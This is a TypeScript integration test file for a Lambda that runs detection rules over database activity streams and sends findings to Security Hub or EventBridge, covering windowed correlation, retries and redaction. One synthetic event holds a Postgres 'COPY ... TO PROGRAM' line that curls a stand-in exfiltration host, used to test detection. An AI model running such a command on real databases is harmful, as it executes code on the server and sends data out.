import { Agent } from 'node:http';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EventBridgeClient } from '@aws-sdk/client-eventbridge';
import { SecurityHubClient } from '@aws-sdk/client-securityhub';
import { NodeHttpHandler } from '@smithy/node-http-handler';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { LAB_CREDENTIALS } from '../../lab/src/lab.js';
import { activityRecord, postgresEvent } from '../../lab/src/synthetic-events.js';
import type { DasEvent } from '../../src/decode/types.js';
import type { KinesisBatchResponse, KinesisStreamEvent, TumblingWindow } from '../../src/lambda/lambda-events.js';
import { lambdaRuntime, type RuntimeOptions } from '../../src/lambda/runtime.js';
import { STATE_KEY } from '../../src/lambda/window-detection.js';
import { kinesisEventOf } from '../helpers/lambda-events.js';
import { TextSink } from '../helpers/memory-io.js';
import { startTestLab, type TestLab } from '../helpers/test-lab.js';

let lab: TestLab;
let securityHub: SecurityHubClient;
let eventBridge: EventBridgeClient;
let rulesDir: string;

/** Rules of the test's own: one single-event rule, and a burst of failed logins per user (3 in 10 minutes) over a named rule. */
const RULES = {
  'drop-table.yml': `title: A table dropped
id: 5d1c7a4e-0b7e-4c55-9a55-000000000001
status: test
description: A DROP TABLE statement
logsource:
  category: database
detection:
  selection:
    commandText|contains: 'DROP TABLE'
  condition: selection
level: high
tags:
  - attack.impact
  - attack.t1485
`,
  'failed-login.yml': `title: A failed login
id: 5d1c7a4e-0b7e-4c55-9a55-000000000002
name: lambda_test_failed_login
status: test
description: A login refused for its password
logsource:
  category: database
detection:
  selection:
    errorMessage|contains: 'password authentication failed'
  condition: selection
level: low
tags:
  - attack.credential_access
  - attack.t1110
`,
  'failed-login-burst.yml': `title: Failed logins in a burst
id: 5d1c7a4e-0b7e-4c55-9a55-000000000003
status: test
description: Three failed logins of one user within ten minutes
correlation:
  type: event_count
  rules:
    - lambda_test_failed_login
  group-by:
    - dbUserName
  timespan: 10m
  condition:
    gte: 3
level: high
tags:
  - attack.credential_access
  - attack.t1110.001
`,
};
const BURST_ID = '5d1c7a4e-0b7e-4c55-9a55-000000000003';
const DROP_ID = '5d1c7a4e-0b7e-4c55-9a55-000000000001';

beforeAll(async () => {
  lab = await startTestLab();
  const common = {
    endpoint: lab.endpoint,
    region: lab.region,
    credentials: LAB_CREDENTIALS,
    requestHandler: new NodeHttpHandler({ httpAgent: new Agent({ keepAlive: true }) }),
  };
  securityHub = new SecurityHubClient(common);
  eventBridge = new EventBridgeClient(common);
  lab.eventBridge.createEventBus('das-findings');
  rulesDir = await mkdtemp(join(tmpdir(), 'das-read-rules-'));
  for (const [name, text] of Object.entries(RULES)) await writeFile(join(rulesDir, name), text);
});
afterAll(async () => {
  securityHub?.destroy();
  eventBridge?.destroy();
  await lab?.close();
});
beforeEach(() => {
  lab.securityHub.refuse = () => undefined;
  lab.eventBridge.refuse = () => undefined;
  lab.gateway.faults.clear();
});

const detectEnv = (extra: Record<string, string> = {}) => ({
  DETECT: 'true',
  BUILTIN_RULES: 'false',
  RULES: rulesDir,
  FINDINGS_TARGET: 'securityhub',
  ...extra,
});

function instance(env: Record<string, string>, options: Partial<RuntimeOptions> = {}) {
  const stdout = new TextSink();
  const stderr = new TextSink();
  const handler = lambdaRuntime({ env, stdout, stderr, kms: lab.clients.kms, securityHub, eventBridge, findingsRetry: { delayMs: 1 }, ...options });
  const logged = () => stderr.lines().map((line) => JSON.parse(line) as { level: string; message: string });
  const invoke = (event: unknown) => handler(event) as Promise<KinesisBatchResponse>;
  return { invoke, stdout, logged };
}

const failedLogin = (n: number, user = 'alice'): DasEvent =>
  postgresEvent(n, {
    dbUserName: user,
    command: 'CONNECT',
    class: 'MISC',
    commandText: null as unknown as string,
    exitCode: 1 as unknown as null,
    errorMessage: `password authentication failed for user "${user}"`,
  });

async function eventWith(name: string, records: DasEvent[][]): Promise<KinesisStreamEvent> {
  const stream = await lab.activityStream({ name });
  await stream.put(records.map((events) => activityRecord(stream.database.resourceId, 'db-INSTANCE1', events)));
  return kinesisEventOf(lab, stream.streamName);
}

/** The batch as a mapping with a tumbling window hands it. */
function windowed(event: KinesisStreamEvent, state: Record<string, unknown> | undefined, final = false): KinesisStreamEvent & TumblingWindow {
  return {
    Records: event.Records,
    window: { start: '2026-01-01T00:00:00Z', end: '2026-01-01T00:05:00Z' },
    state: state ?? {},
    shardId: 'shardId-000000000000',
    eventSourceARN: event.Records[0]?.eventSourceARN ?? 'arn:aws:kinesis:us-east-1:000000000000:stream/x',
    isFinalInvokeForWindow: final,
    isWindowTerminatedEarly: false,
  };
}

const heldBy = (ruleId: string) => lab.securityHub.findings().filter((finding) => finding.GeneratorId === ruleId);

describe('DETECT=true in the Lambda, findings to Security Hub', () => {
  it('sends a single-event rule finding as the event comes, in ASFF Security Hub accepts, and still delivers every event', async () => {
    const event = await eventWith('detect-single', [[postgresEvent(1), postgresEvent(2, { commandText: 'DROP TABLE accounts' })], [postgresEvent(3)]]);
    const before = heldBy(DROP_ID).length;
    const fn = instance(detectEnv());
    expect(await fn.invoke(event)).toEqual({ batchItemFailures: [] });
    expect(fn.stdout.lines()).toHaveLength(3);
    const held = heldBy(DROP_ID);
    expect(held.length - before).toBe(1);
    expect(JSON.stringify(held.at(-1))).toContain(`${event.Records[0]?.eventID.split(':')[0]}:${event.Records[0]?.kinesis.sequenceNumber}:1`);
    expect(fn.logged().filter((line) => line.level === 'ERROR')).toEqual([]);
  });

  it('carries a correlation across two invocations of one tumbling window in `state`: the burst is found by the second, and a new window begins afresh', async () => {
    const event = await eventWith('detect-window', [[failedLogin(1), failedLogin(2)], [failedLogin(3)], [failedLogin(4)]]);
    const [first, second, third] = event.Records.map((record) => ({ Records: [record] }));
    const fn = instance(detectEnv());
    const before = heldBy(BURST_ID).length;

    const one = await fn.invoke(windowed(first as KinesisStreamEvent, undefined));
    expect(one.batchItemFailures).toEqual([]);
    expect(typeof one.state?.[STATE_KEY]).toBe('string');
    expect(heldBy(BURST_ID).length).toBe(before);

    // The same function, or another instance: what carries the count is the state Lambda hands back.
    const other = instance(detectEnv());
    const two = await other.invoke(windowed(second as KinesisStreamEvent, one.state));
    expect(two.batchItemFailures).toEqual([]);
    const found = heldBy(BURST_ID);
    expect(found.length - before).toBe(1);
    expect(String(found.at(-1)?.Title)).toContain('Failed logins in a burst');

    // The window's final invocation, with no records: it answers with an empty state, and reports nothing new.
    const end = await other.invoke(windowed({ Records: [] }, two.state, true));
    expect(end).toEqual({ batchItemFailures: [], state: {} });

    // A new window starts from {}: one more failed login makes no burst.
    const next = await other.invoke(windowed(third as KinesisStreamEvent, {}));
    expect(next.batchItemFailures).toEqual([]);
    expect(heldBy(BURST_ID).length - before).toBe(1);
    // Without the state the count would have been lost: two invocations of a window, each from {}, find nothing.
    const fresh = instance(detectEnv());
    await fresh.invoke(windowed(first as KinesisStreamEvent, {}));
    await fresh.invoke(windowed(second as KinesisStreamEvent, {}));
    expect(heldBy(BURST_ID).length - before).toBe(1);
  });

  it('keeps the state it returns under its bound by dropping the oldest correlation groups, says so, and the newest still count on', async () => {
    const users = Array.from({ length: 12 }, (_, n) => `user${String(n).padStart(2, '0')}`);
    // Two failed logins each, the oldest user first; then one more for the newest and the oldest.
    const event = await eventWith('detect-bound', [
      users.flatMap((user, n) => [failedLogin(2 * n + 1, user), failedLogin(2 * n + 2, user)]),
      [failedLogin(40, 'user11'), failedLogin(41, 'user00')],
    ]);
    const [first, second] = event.Records.map((record) => ({ Records: [record] }));
    const limit = 12_000;
    const fn = instance(detectEnv(), { stateLimitBytes: limit });
    const one = await fn.invoke(windowed(first as KinesisStreamEvent, undefined));
    const text = String(one.state?.[STATE_KEY]);
    expect(Buffer.byteLength(text, 'utf8')).toBeLessThanOrEqual(limit);
    expect(text).toContain('user11');
    expect(text).not.toContain('user00');
    expect(fn.logged().some((line) => line.level === 'WARN' && /oldest \d+ correlation groups were dropped/.test(line.message))).toBe(true);
    const before = heldBy(BURST_ID).map((finding) => JSON.stringify(finding));
    expect((await fn.invoke(windowed(second as KinesisStreamEvent, one.state))).batchItemFailures).toEqual([]);
    const found = heldBy(BURST_ID)
      .map((finding) => JSON.stringify(finding))
      .filter((finding) => !before.includes(finding));
    expect(found).toHaveLength(1);
    expect(found[0]).toContain('user11');
  });

  it("the window's final invocation, with records, finds what they complete, delivers it, and ends the window's state", async () => {
    const event = await eventWith('detect-final', [[failedLogin(1, 'carol'), failedLogin(2, 'carol')], [failedLogin(3, 'carol')]]);
    const [first, last] = event.Records.map((record) => ({ Records: [record] }));
    const fn = instance(detectEnv());
    const before = heldBy(BURST_ID).length;
    const one = await fn.invoke(windowed(first as KinesisStreamEvent, undefined));
    expect(await fn.invoke(windowed(last as KinesisStreamEvent, one.state, true))).toEqual({ batchItemFailures: [], state: {} });
    expect(heldBy(BURST_ID).length - before).toBe(1);
    expect(JSON.stringify(heldBy(BURST_ID).at(-1))).toContain('carol');
  });

  it('splits more than 100 findings into calls of at most 100', async () => {
    const drops = Array.from({ length: 150 }, (_, n) => postgresEvent(n + 1, { commandText: `DROP TABLE t${n}` }));
    const event = await eventWith('detect-many', [drops.slice(0, 75), drops.slice(75)]);
    const calls = lab.securityHub.calls.length;
    const fn = instance(detectEnv());
    expect(await fn.invoke(event)).toEqual({ batchItemFailures: [] });
    expect(lab.securityHub.calls.slice(calls)).toEqual([100, 50]);
  });

  it('sends again the findings Security Hub refuses for a while; what it keeps refusing fails its record and those after it, the state stays before them, and the retry updates rather than duplicates', async () => {
    const event = await eventWith('detect-refused', [[failedLogin(1, 'bob'), failedLogin(2, 'bob')], [failedLogin(3, 'bob')], [postgresEvent(4)]]);
    const [first, rest] = [{ Records: event.Records.slice(0, 1) }, { Records: event.Records.slice(1) }];
    const fn = instance(detectEnv());
    const one = await fn.invoke(windowed(first, undefined));

    // Refused twice, then taken: within the function's retries.
    let refusals = 2;
    lab.securityHub.refuse = (finding) =>
      finding.GeneratorId === BURST_ID && refusals-- > 0
        ? { Id: String(finding.Id), ErrorCode: 'InternalException', ErrorMessage: 'Internal failure' }
        : undefined;
    const taken = await fn.invoke(windowed(rest, one.state));
    expect(taken.batchItemFailures).toEqual([]);
    const burst = heldBy(BURST_ID).filter((finding) => JSON.stringify(finding).includes('bob'));
    expect(burst).toHaveLength(1);

    // Refused every time: the record that completed the burst and the one after it go back to Lambda.
    lab.securityHub.refuse = (finding) =>
      finding.GeneratorId === BURST_ID ? { Id: String(finding.Id), ErrorCode: 'InternalException', ErrorMessage: 'Internal failure' } : undefined;
    const lines = fn.stdout.lines().length;
    const refused = await fn.invoke(windowed(rest, one.state));
    expect(refused.batchItemFailures).toEqual(rest.Records.map((record) => ({ itemIdentifier: record.kinesis.sequenceNumber })));
    // Neither record's events were delivered: they come again with the retry.
    expect(fn.stdout.lines().length).toBe(lines);
    expect(fn.logged().some((line) => line.level === 'ERROR' && /Security Hub did not take 1 of 1 findings after 4 attempts/.test(line.message))).toBe(true);
    // The state returned is the one before the failed record: the retry counts it once, and makes the same finding again.
    expect(refused.state).toEqual(one.state);
    lab.securityHub.refuse = () => undefined;
    const updates = lab.securityHub.updates;
    const retried = await fn.invoke(windowed(rest, refused.state));
    expect(retried.batchItemFailures).toEqual([]);
    expect(heldBy(BURST_ID).filter((finding) => JSON.stringify(finding).includes('bob'))).toHaveLength(1);
    expect(lab.securityHub.updates).toBe(updates + 1);
  });

  it('a call Security Hub fails whole (throttled) is sent again', async () => {
    const event = await eventWith('detect-throttled', [[postgresEvent(1, { commandText: 'DROP TABLE x' })]]);
    lab.gateway.faults.add({ action: 'securityhub:BatchImportFindings', kind: 'throttle', times: 2 });
    const fn = instance(detectEnv(), {
      securityHub: new SecurityHubClient({ endpoint: lab.endpoint, region: lab.region, credentials: LAB_CREDENTIALS, maxAttempts: 1 }),
    });
    expect(await fn.invoke(event)).toEqual({ batchItemFailures: [] });
    expect(lab.gateway.faults.served.get('securityhub:BatchImportFindings throttle')).toBe(2);
  });
});

describe('DETECT=true with REDACT=true', () => {
  it('finds an attack that lives in a literal, and neither its ASFF nor the window state carries the literal', async () => {
    const PROGRAM_ID = '6eb730b1-0619-4ddc-9e28-9c3b9da40787';
    const SECRET = 'zebra-literal-7';
    // Failed logins whose statements quote a secret: the burst's evidence is kept in the state between invocations.
    const quoting = (n: number) => ({ ...failedLogin(n, 'redacted-dave'), commandText: `SELECT '${SECRET}'` });
    const event = await eventWith('detect-redact', [
      [postgresEvent(1, { commandText: `COPY t TO PROGRAM 'curl http://exfil.example/${SECRET}'` }), quoting(2), quoting(3)],
      [quoting(4)],
    ]);
    const [first, second] = event.Records.map((record) => ({ Records: [record] }));
    const env = detectEnv({ REDACT: 'true', BUILTIN_RULES: 'true' });
    const programBefore = heldBy(PROGRAM_ID).length;
    const burstBefore = heldBy(BURST_ID).length;

    const one = await instance(env).invoke(windowed(first as KinesisStreamEvent, undefined));
    expect(one.batchItemFailures).toEqual([]);
    expect(heldBy(PROGRAM_ID).length - programBefore).toBe(1);
    const state = String(one.state?.[STATE_KEY]);
    expect(state).toContain('SELECT ?');
    expect(state).not.toContain(SECRET);

    const two = await instance(env).invoke(windowed(second as KinesisStreamEvent, one.state));
    expect(two.batchItemFailures).toEqual([]);
    expect(heldBy(BURST_ID).length - burstBefore).toBe(1);
    expect(JSON.stringify(two.state)).not.toContain(SECRET);
    const shown = JSON.stringify([...heldBy(PROGRAM_ID).slice(programBefore), ...heldBy(BURST_ID).slice(burstBefore)]);
    expect(shown).not.toContain(SECRET);
    expect(shown).not.toContain('exfil.example');
  });
});

describe('DETECT=true in the Lambda, findings to EventBridge', () => {
  it('puts each finding on the bus as an event of at most 10 a call, its detail as Security Hub words its own', async () => {
    const drops = Array.from({ length: 23 }, (_, n) => postgresEvent(n + 1, { commandText: `DROP TABLE e${n}` }));
    const event = await eventWith('detect-eventbridge', [drops]);
    const calls = lab.eventBridge.calls.length;
    const fn = instance(detectEnv({ FINDINGS_TARGET: 'eventbridge', EVENT_BUS_NAME: 'das-findings' }));
    expect(await fn.invoke(event)).toEqual({ batchItemFailures: [] });
    expect(lab.eventBridge.calls.slice(calls)).toEqual([10, 10, 3]);
    const put = lab.eventBridge.events('das-findings').slice(-23);
    expect(put.every((e) => e.source === 'das-read' && e.detailType === 'das-read Finding')).toBe(true);
    const detail = put[0]?.detail as { findings: Array<{ GeneratorId: string; Id: string }> };
    expect(detail.findings).toHaveLength(1);
    expect(detail.findings[0]?.GeneratorId).toBe(DROP_ID);
    expect(new Set(put.map((e) => (e.detail as typeof detail).findings[0]?.Id)).size).toBe(23);
  });

  it('a finding whose statement passes 256 KB is still put: its ASFF stays within the entry limit', async () => {
    const event = await eventWith('detect-eventbridge-large', [[postgresEvent(1, { commandText: `DROP TABLE big /* ${'x'.repeat(300 * 1024)} */` })]]);
    const fn = instance(detectEnv({ FINDINGS_TARGET: 'eventbridge', EVENT_BUS_NAME: 'das-findings' }));
    const before = lab.eventBridge.events('das-findings').length;
    expect(await fn.invoke(event)).toEqual({ batchItemFailures: [] });
    expect(lab.eventBridge.events('das-findings').length - before).toBe(1);
  });

  it('entries EventBridge keeps refusing fail their records; refused for a while, they are put again', async () => {
    const event = await eventWith('detect-eventbridge-refused', [[postgresEvent(1)], [postgresEvent(2, { commandText: 'DROP TABLE z' })], [postgresEvent(3)]]);
    const fn = instance(detectEnv({ FINDINGS_TARGET: 'eventbridge', EVENT_BUS_NAME: 'das-findings' }));
    lab.eventBridge.refuse = () => ({ ErrorCode: 'ThrottlingException', ErrorMessage: 'Rate exceeded' });
    const answer = await fn.invoke(event);
    expect(answer.batchItemFailures).toEqual(event.Records.slice(1).map((record) => ({ itemIdentifier: record.kinesis.sequenceNumber })));
    expect(fn.stdout.lines()).toHaveLength(1);
    let refusals = 3;
    lab.eventBridge.refuse = () => (refusals-- > 0 ? { ErrorCode: 'ThrottlingException', ErrorMessage: 'Rate exceeded' } : undefined);
    expect(await fn.invoke({ Records: event.Records.slice(1) })).toEqual({ batchItemFailures: [] });
    expect(fn.stdout.lines()).toHaveLength(3);
  });
});

describe("DETECT's configuration", () => {
  it.each([
    [{ DETECT: 'true' }, /FINDINGS_TARGET/],
    [{ DETECT: 'true', FINDINGS_TARGET: 'sns' }, /FINDINGS_TARGET must be one of securityhub, eventbridge/],
    [{ FINDINGS_TARGET: 'securityhub' }, /FINDINGS_TARGET goes with DETECT=true/],
    [{ DETECT: 'true', FINDINGS_TARGET: 'securityhub', EVENT_BUS_NAME: 'b' }, /EVENT_BUS_NAME goes with FINDINGS_TARGET=eventbridge/],
    [{ DETECT: 'true', FINDINGS_TARGET: 'securityhub', BUILTIN_RULES: 'false' }, /no rules to run/],
  ])('refuses %j, naming the variable', async (env, message) => {
    const fn = instance(env as Record<string, string>);
    await expect(fn.invoke({ Records: [] })).rejects.toThrow(message);
  });

  it('a window without DETECT still answers with a state, which Lambda requires of a windowed invocation', async () => {
    const fn = instance({});
    expect(await fn.invoke(windowed({ Records: [] }, {}))).toEqual({ batchItemFailures: [], state: {} });
  });
});
